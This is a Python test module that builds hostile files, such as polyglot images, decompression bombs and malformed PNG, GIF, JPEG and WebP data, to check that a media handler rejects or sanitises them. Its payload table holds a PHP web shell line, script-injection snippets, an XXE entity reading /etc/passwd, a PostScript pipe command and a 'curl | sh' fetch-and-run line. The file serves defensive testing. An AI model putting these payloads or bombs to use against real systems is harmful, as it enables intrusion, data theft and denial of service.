"""Hostile files, generated here because such files do not belong into a repository.

`files` yields each file with a name that describes it. Media must refuse files whose name begins
with `no`, and must accept and clean those whose name begins with `a`. Others may do either.
"""

import gzip
import io
import random
import struct
import zlib
from collections.abc import Iterator
from typing import Any

from PIL import Image

from . import samples

MARK = b"h4rmful"
"""Every payload that must not survive contains it."""

KINDS = ("JPEG", "PNG", "WEBP", "GIF")
PAYLOADS = {
    "html": b"<!doctype html><script>alert('h4rmful')</script>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="h4rmful()"/>',
    "php": b"<?php system($_GET['h4rmful']); ?>",
    "javascript": b"=1;h4rmful();/*",
    "zip": b"PK\x03\x04h4rmful" + bytes(30) + b"PK\x05\x06" + bytes(18),
    "pdf": b"%PDF-1.7\n1 0 obj<</JS(h4rmful)>>endobj\n%%EOF",
    "program": b"\x7fELF\x02\x01\x01h4rmful" + bytes(60),
    "shell": b"\n#!/bin/sh\ncurl h4rmful | sh\n",
}
_OTHER_KINDS = (
    "BMP", "DDS", "EPS", "ICNS", "ICO", "JPEG2000", "PCX", "PDF", "PPM", "SGI", "TGA", "TIFF",
)  # fmt: skip


def files() -> Iterator[tuple[str, bytes]]:
    yield from _no_pictures()
    yield from _other_kinds()
    yield from _polyglots()
    yield from _cut_short()
    yield from _bombs()
    yield from _broken_pngs()
    yield from _broken_gifs()
    yield from _turned()
    yield from _damaged()


def _no_pictures() -> Iterator[tuple[str, bytes]]:
    for name, payload in PAYLOADS.items():
        yield f"no picture: {name}", payload
        yield f"no picture: {name} behind a GIF's first bytes", b"GIF89a" + payload
        yield f"no picture: {name} behind a PNG's first bytes", b"\x89PNG\r\n\x1a\n" + payload
        yield f"no picture: {name} behind a JPEG's first bytes", b"\xff\xd8\xff\xe0" + payload
        yield f"no picture: {name} in a WebP's frame", _riff(payload)
    svg = PAYLOADS["svg"]
    entity = b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
    yield "no picture: an svg with an entity", b'<?xml version="1.0"?>' + entity
    yield "no picture: an svg in UTF-16", svg.decode().encode("utf-16")
    yield "no picture: an svg behind a mark of its encoding", b"\xef\xbb\xbf" + svg
    yield "no picture: an svg, compressed", gzip.compress(svg, mtime=0)
    yield "no picture: a postscript that runs a program", b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n"
    for brand in (b"avif", b"heic", b"mif1", b"mp42"):
        yield f"no picture: {brand.decode()}", b"\0\0\0\x18ftyp" + brand + bytes(64)
    yield "no picture: an icon for windows", b"\0\0\1\0\1\0" + bytes(40)
    yield "no picture: zeros", bytes(100_000)
    yield "no picture: noise", random.Random(1).randbytes(100_000)


def _riff(payload: bytes) -> bytes:
    payload += bytes(len(payload) % 2)
    chunk = b"VP8 " + struct.pack("<I", len(payload)) + payload
    return b"RIFF" + struct.pack("<I", len(chunk) + 4) + b"WEBP" + chunk


def _other_kinds() -> Iterator[tuple[str, bytes]]:
    for kind in _OTHER_KINDS:
        out = io.BytesIO()
        Image.new("RGB", (16, 16), "red").save(out, kind)
        yield f"no: a {kind}", out.getvalue()


def _polyglots() -> Iterator[tuple[str, bytes]]:
    for kind in KINDS:
        for name, payload in PAYLOADS.items():
            yield f"a {kind} and a {name} behind it", samples.picture(kind) + payload
            yield f"a {kind} with a {name} in it", _with(kind, payload)
            yield f"no {kind}: a {name} before it", payload + samples.picture(kind)
    mpo = io.BytesIO()
    second = Image.new("RGB", (8, 8), "blue")
    Image.new("RGB", (8, 8), "red").save(mpo, "MPO", save_all=True, append_images=[second])
    yield "a JPEG with a second one in it", mpo.getvalue()


def _with(kind: str, payload: bytes) -> bytes:
    """A picture with the payload in every place where its format can hold text."""
    image = Image.new("RGB", (16, 16), "red")
    exif = Image.Exif()
    exif[0x010E] = exif[0x9286] = exif[0x927C] = payload
    exif[samples.GPS] = {1: "N", 2: (55.0, 45.0, 0.0), 29: MARK.decode()}
    places: dict[str, dict[str, Any]] = {
        "JPEG": {"exif": exif, "comment": payload, "xmp": payload, "icc_profile": payload},
        "WEBP": {"exif": exif, "xmp": payload, "icc_profile": payload},
        "GIF": {"comment": payload[:250]},
        "PNG": {"exif": exif, "icc_profile": payload},
    }
    out = io.BytesIO()
    image.save(out, kind, **places[kind])
    if kind != "PNG":
        return out.getvalue()
    words = chunk(b"tEXt", b"Comment\0" + payload) + chunk(
        b"zTXt", b"Comment\0\0" + zlib.compress(payload)
    )
    whole = out.getvalue()
    return whole[:33] + words + chunk(b"hRMf", payload) + whole[33:]


def chunk(name: bytes, data: bytes, check: int | None = None) -> bytes:
    """A chunk of a PNG, with its checksum or with the given number instead."""
    sum_ = zlib.crc32(name + data) if check is None else check
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", sum_)


def png(
    width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, more: int = 0
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, more)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + b"".join(chunks) + chunk(b"IEND", b"")


def _cut_short() -> Iterator[tuple[str, bytes]]:
    whole = {f"{kind}": samples.picture(kind, 300, 200) for kind in KINDS}
    whole |= {f"moving {kind}": samples.animation(kind, 5) for kind in ("GIF", "WEBP")}
    for kind, content in whole.items():
        for percent in (1, 5, 20, 50, 80):
            # Browsers and media read a GIF that ends between two frames as a shorter GIF.
            expected = "" if kind == "moving GIF" else "no: "
            yield f"{expected}{percent} % of a {kind}", content[: len(content) * percent // 100]
        yield f"{kind} without its last byte", content[:-1]
        yield f"{kind} without its first byte", content[1:]
        yield f"{kind} twice", content + content


def _bombs() -> Iterator[tuple[str, bytes]]:
    little = chunk(b"IDAT", zlib.compress(bytes(10_000_000), 9))
    for width, height in ((60_000, 60_000), (2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (1, 2**31 - 1)):
        yield f"no: a PNG of {width} by {height}", png(width, height, little)
        yield (
            f"no: a PNG of {width} by {height}, one bit",
            png(width, height, little, depth=1, colour=0),
        )
    for width, height in ((0xFFFF, 0xFFFF), (0xFFFF, 800)):
        size = struct.pack("<HH", width, height)
        gif = samples.picture("GIF")
        yield f"GIF of {width} by {height} with a small frame", gif[:6] + size + gif[10:]
        jpeg = samples.picture("JPEG")
        frame = jpeg.index(b"\xff\xc0")
        size = struct.pack(">HH", height, width)
        yield f"no: a JPEG of {width} by {height}", jpeg[: frame + 5] + size + jpeg[frame + 9 :]
    canvas = b"VP8X\x0a\0\0\0\x02\0\0\0" + b"\xff" * 6
    yield "no: a WebP of 2^24 by 2^24", b"RIFF" + struct.pack("<I", 22) + b"WEBP" + canvas
    yield "a GIF with a frame far outside of its canvas", samples.growing_gif()
    for kind in ("GIF", "WEBP"):
        yield f"no: a {kind} of 300 frames", samples.animation(kind, 300)
    yield "no: a GIF of 200 frames that are large", large_frames()
    yield "no: a JPEG of many scans", samples.many_scans()
    yield "no: a JPEG of many segments", b"\xff\xd8" + b"\xff\xe1\0\x04ab" * 300_000
    text = b"Comment\0\0" + zlib.compress(bytes(100_000_000), 9)
    pixel = chunk(b"IDAT", zlib.compress(b"\0\1\2\3"))
    yield "PNG with a text of 100 MB in 100 kB", png(1, 1, chunk(b"zTXt", text), pixel)
    profile = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(100_000_000), 9))
    yield "PNG with a profile of 100 MB in 100 kB", png(1, 1, profile, pixel)
    yield "PNG of 200,000 chunks", png(1, 1, pixel, *[chunk(b"IDAT", b"")] * 200_000)
    yield "PNG of 100,000 texts", png(1, 1, *[chunk(b"tEXt", b"a\0" + MARK)] * 100_000, pixel)
    yield "PNG with 10 MB for one pixel", png(1, 1, little)
    yield "GIF of 500,000 comments", b"GIF89a\1\0\1\0\0\0\0" + b"\x21\xfe\1x\0" * 500_000 + b";"


def large_frames() -> bytes:
    """A few hundred kilobytes with 800 million pixels."""
    image = Image.new("P", (2000, 2000))
    out = io.BytesIO()
    image.save(out, "GIF")
    whole = out.getvalue()
    frame = whole[whole.index(b"\x2c") : -1]
    return whole[:-1] + frame * 199 + b";"


def _broken_pngs() -> Iterator[tuple[str, bytes]]:
    row = chunk(b"IDAT", zlib.compress(bytes(4)))
    yield "no: a PNG of no width", png(0, 1, row)
    yield "no: a PNG of no height", png(1, 0, row)
    yield "no: a PNG without data", png(1, 1)
    yield "no: a PNG whose data is none", png(1, 1, chunk(b"IDAT", b"rubbish"))
    yield "no: a PNG of too little data", png(100, 100, row)
    yield "PNG with a wrong sum", png(1, 1, chunk(b"IDAT", zlib.compress(bytes(4)), 7))
    yield "no: a PNG that promises a chunk of 2 GB", png(1, 1)[:33] + b"\x7f\xff\xff\xffIDAT"
    yield "no: a PNG of another depth", png(1, 1, row, depth=7)
    yield "no: a PNG of another colour", png(1, 1, row, colour=5)
    yield "PNG without its palette", png(1, 1, row, colour=3)
    yield "PNG of an unknown filter", png(1, 1, chunk(b"IDAT", zlib.compress(b"\x09" + bytes(3))))
    yield "PNG of an unknown interlacing", png(1, 1, row, more=7)
    yield "PNG with two headers", png(1, 1, png(60_000, 60_000)[8:33], row)
    yield "PNG of a moving kind", png(1, 1, chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0)), row)


def _broken_gifs() -> Iterator[tuple[str, bytes]]:
    head = b"GIF89a\x10\0\x10\0\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0\x10\0\x10\0\0"
    for bits in (0, 1, 8, 9, 12, 13, 255):
        yield f"GIF of codes of {bits} bits", head + bytes([bits]) + b"\4\x84\x8f\xa9\xcb\0;"
    yield "no: a GIF without a frame", head[:19] + b";"
    yield "GIF of no size", b"GIF89a\0\0\0\0" + head[10:] + b"\2\2\x44\1\0;"
    yield "GIF of a frame of no size", head[:24] + bytes(4) + b"\0\2\2\x44\1\0;"
    yield "GIF that never ends", head + b"\2" + b"\xff" * 70_000


def _turned() -> Iterator[tuple[str, bytes]]:
    for kind in ("JPEG", "PNG", "WEBP"):
        for orientation in (0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 65_535):
            exif = Image.Exif()
            exif[samples.ORIENTATION] = orientation
            exif[0x010E] = MARK.decode()
            out = io.BytesIO()
            Image.new("RGB", (20, 10), "red").save(out, kind, exif=exif)
            yield f"a {kind} of orientation {orientation}", out.getvalue()
        out = io.BytesIO()
        Image.new("RGB", (9, 9)).save(out, kind, exif=b"Exif\0\0II*\0" + b"\xff" * 90 + MARK)
        yield f"{kind} with an EXIF that is none", out.getvalue()


def _damaged() -> Iterator[tuple[str, bytes]]:
    chance = random.Random(7)
    for kind in KINDS:
        content = samples.picture(kind, 60, 40)
        for number in range(12):
            damaged = bytearray(content)
            for _ in range(number + 1):
                damaged[chance.randrange(len(damaged))] = chance.randrange(256)
            yield f"{kind}, damaged, {number}", bytes(damaged)
